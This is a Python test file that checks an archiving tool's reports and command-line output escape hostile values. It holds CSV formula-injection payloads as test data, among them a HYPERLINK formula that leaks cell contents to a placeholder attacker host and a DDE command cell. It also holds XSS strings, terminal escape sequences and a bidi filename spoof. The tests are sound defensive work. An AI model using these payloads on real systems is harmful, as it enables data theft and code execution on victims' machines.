"""Neutralised output (issue 10, item 19): nothing untrusted reaches a terminal with its control,
bidi or surrogate characters raw, no CSV cell is a formula, and the HTML and Markdown reports
keep untrusted values as text. Also the derived state and the lock file, when someone else has
touched them (item 18)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from archiver.neutral import FORMULA_LEAD, UNSAFE, csv_cell, for_terminal, json_for_terminal
from archiver.store.lock import holder_pid
from tests.test_manifest_lines import Base, base, cli, copy  # noqa: F401 (fixtures)

ANY_TEXT = st.text(alphabet=st.characters(blacklist_categories=()), max_size=200)
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202egpj.exe\u2066\r\x85"
FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click").md',
    "+cmd|' /C calc'!A0.md",
    "-2+3.md",
    "@SUM(1+1).md",
    "\t=1+1.md",
    "\r=1+1.md",
    "  =1+1.md",
]


def raw_controls(text: str) -> list[str]:
    return [char for char in text if UNSAFE.match(char) and char not in "\n\r"]


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_the_neutralisers_are_total_and_leave_nothing_unsafe(text: str) -> None:
    shown = for_terminal(text)
    assert not UNSAFE.search(shown)
    assert for_terminal(text, keep="\n").replace("\n", "") == for_terminal(text.replace("\n", ""))
    cell = csv_cell(text)
    assert not UNSAFE.search(cell)
    assert cell.lstrip(" ")[:1] not in FORMULA_LEAD
    encoded = json_for_terminal(json.dumps({"k": text}, ensure_ascii=False))
    assert not UNSAFE.search(encoded)
    assert json.loads(encoded) == {"k": text}  # the same value


def _write(path: Path, rows: Sequence[Mapping[str, object]]) -> None:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")


def _hostile_collection(root: Path) -> None:
    directory = root / "manifests/h"
    directory.mkdir(parents=True)
    links = [
        {
            "url": f"https://x.test/{n}",
            "role": "image",
            "documents": [path],
            "status": "dead",
            "error": f"http-404: {ESCAPES}",
        }
        for n, path in enumerate(FORMULAS)
    ]
    links.append(
        {
            "url": "javascript:alert(1)",
            "role": "related",
            "documents": ["<img src=x onerror=alert(1)>.md"],
            "status": "failed",
            "error": "[x](javascript:alert(2)) <script>alert(3)</script>",
        }
    )
    _write(directory / "links.jsonl", links)
    documents = [
        {"path": FORMULAS[0], "title": f"[t](javascript:alert(4)) {ESCAPES}"},
        {"path": "b.md", "title": "<script>alert(5)</script>", "source_url": "javascript:x()"},
    ]
    _write(directory / "documents.jsonl", documents)


def test_no_csv_cell_is_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The example: a document path `=HYPERLINK(...).md` landed raw in a CSV cell."""
    _hostile_collection(tmp_path)
    ran = cli(capsys, "report", "-c", "h", "--format", "csv", "--out", str(tmp_path))
    assert ran.code == 0
    rows = list(csv.reader(io.StringIO(ran.out)))
    assert len(rows) == len(FORMULAS) + 2
    cells = [cell for row in rows for cell in row]
    assert all(cell.lstrip(" ")[:1] not in FORMULA_LEAD for cell in cells)
    assert all(not raw_controls(cell) for cell in cells)
    assert '\'=HYPERLINK("http://evil.test/?"&A1,"click").md' in cells


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json"])
def test_a_report_on_the_terminal_has_no_raw_control_characters(
    fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _hostile_collection(tmp_path)
    ran = cli(capsys, "report", "-c", "h", "--format", fmt, "--out", str(tmp_path))
    assert ran.code == 0
    assert raw_controls(ran.out) == []
    if fmt == "json":
        assert f"http-404: {ESCAPES}" in [link["error"] for link in json.loads(ran.out)["links"]]


def test_the_markdown_report_injects_no_link_or_html(tmp_path: Path) -> None:
    _hostile_collection(tmp_path)
    written = tmp_path / "r.md"
    assert (
        cli_quiet("report", "-c", "h", "--format", "md", "-o", str(written), "--out", str(tmp_path))
        == 0
    )
    html = MarkdownIt("commonmark").enable("table").render(written.read_text(encoding="utf-8"))
    assert "javascript:" not in " ".join(a for a in html.split("href=")[1:])
    assert "<script" not in html and "<img" not in html


def test_the_html_report_keeps_hostile_values_as_text(tmp_path: Path) -> None:
    _hostile_collection(tmp_path)
    written = tmp_path / "r.html"
    assert cli_quiet("report", "-c", "h", "-o", str(written), "--out", str(tmp_path)) == 0
    page = written.read_text(encoding="utf-8")
    assert "<script>" not in page and "<img src=x" not in page
    assert 'href="javascript:' not in page
    assert raw_controls(page) == []


def cli_quiet(*args: str) -> int:
    from archiver.cli import main

    try:
        main(list(args))
    except SystemExit as done:
        return int(done.code or 0)
    return 0


def _warc_with_hostile_uri(path: Path) -> None:
    """One response record whose WARC-Target-URI holds escape sequences and a bidi override,
    and whose block digest is wrong: verify has something to say about it."""
    block = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nhi"
    head = (
        "WARC/1.1\r\nWARC-Type: response\r\n"
        "WARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-000000000001>\r\n"
        "WARC-Date: 2026-01-01T00:00:00Z\r\n"
        f"WARC-Target-URI: http://x.test/{ESCAPES.replace(chr(13), '')}\r\n"
        "Content-Type: application/http; msgtype=response\r\n"
        f"WARC-Block-Digest: sha256:{'0' * 64}\r\n"
        f"Content-Length: {len(block)}\r\n\r\n"
    )
    path.write_bytes(head.encode("utf-8") + block + b"\r\n\r\n")


def test_verify_prints_no_escape_sequence_from_a_warc(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The example: a WARC-Target-URI holding terminal escape sequences was printed raw."""
    warc = tmp_path / "hostile.warc"
    _warc_with_hostile_uri(warc)
    ran = cli(capsys, "verify", str(warc))
    assert ran.code == 1
    assert raw_controls(ran.out + ran.err) == []
    ran = cli(capsys, "verify", str(warc), "--json")
    assert raw_controls(ran.out) == []


def test_errors_at_the_cli_edge_are_neutralised(capsys: pytest.CaptureFixture[str]) -> None:
    ran = cli(capsys, "verify", f"missing{ESCAPES}.warc.gz")
    assert ran.code == 2
    assert "no such WARC file" in ran.err and raw_controls(ran.err) == []


def test_links_json_keeps_the_value_and_no_raw_bidi(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = tmp_path / "d.html"
    doc.write_text('<p><a href="http://x.test/\u202egpj.exe">a</a></p>', encoding="utf-8")
    ran = cli(capsys, "links", str(doc))
    assert ran.code == 0
    assert raw_controls(ran.out) == []
    assert [json.loads(line)["raw"] for line in ran.out.splitlines()] == [
        "http://x.test/\u202egpj.exe"
    ]


def test_archive_summary_prints_no_raw_file_name(
    base: Base,  # noqa: F811
    copy: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A `.open` WARC named with escape sequences is repaired and named in the summary."""
    (copy / f"warcs/v/v-{ESCAPES}.warc.gz.open").write_bytes(b"junk")
    ran = cli(capsys, "archive", str(base.doc), "-c", "v", "--allow-private", "--out", str(copy))
    assert ran.code == 0
    assert "repaired warcs/v/v-\\x1b[2J" in ran.out
    assert raw_controls(ran.out + ran.err) == []


# --- the derived state, when it is not what this code wrote ------------------------------------


def _not_a_database(path: Path) -> None:
    path.write_bytes(b"not a database\n" * 100)


def _wrong_schema(path: Path) -> None:
    path.unlink()
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE links (a, b)")


def _a_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()
    (path / "x").write_text("x")


def _cut_in_half(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


@pytest.mark.parametrize("damage", [_not_a_database, _wrong_schema, _a_folder, _cut_in_half])
def test_a_state_file_that_cannot_be_used_is_set_aside_and_rebuilt(
    damage: object,
    base: Base,  # noqa: F811
    copy: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    state = copy / "manifests/v/.state.sqlite"
    for suffix in ("-wal", "-shm"):
        Path(f"{state}{suffix}").unlink(missing_ok=True)
    damage(state)  # type: ignore[operator]
    args = ("archive", str(base.doc), "-c", "v", "--allow-private", "--json", "--out", str(copy))
    ran = cli(capsys, *args)
    assert ran.code == 0, ran.err
    assert f"{state}: moved aside to .state.sqlite.bad" in ran.err
    summary = json.loads(ran.out)
    assert summary["counts"] == {"archived": 4} and summary["fetched"] == 0  # from links.jsonl
    assert (copy / "manifests/v/.state.sqlite.bad").exists()
    again = cli(capsys, *args)
    assert again.code == 0 and "warning" not in again.err


def test_a_lock_file_someone_else_wrote_names_no_process(tmp_path: Path) -> None:
    for text, pid in [("123\n", 123), ("-1", None), ("9" * 30, None), ("abc", None), ("", None)]:
        (tmp_path / ".lock").write_text(text)
        assert holder_pid(tmp_path) == pid
    (tmp_path / ".lock").write_bytes(b"\xff\xfe")
    assert holder_pid(tmp_path) is None


def test_verify_with_a_lock_folder_does_not_crash(
    copy: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    lock = copy / "manifests/v/.lock"
    lock.unlink(missing_ok=True)
    lock.mkdir()
    ran = cli(capsys, "verify", "-c", "v", "--out", str(copy))
    assert ran.code == 0 and "OK" in ran.out
    shutil.rmtree(lock)
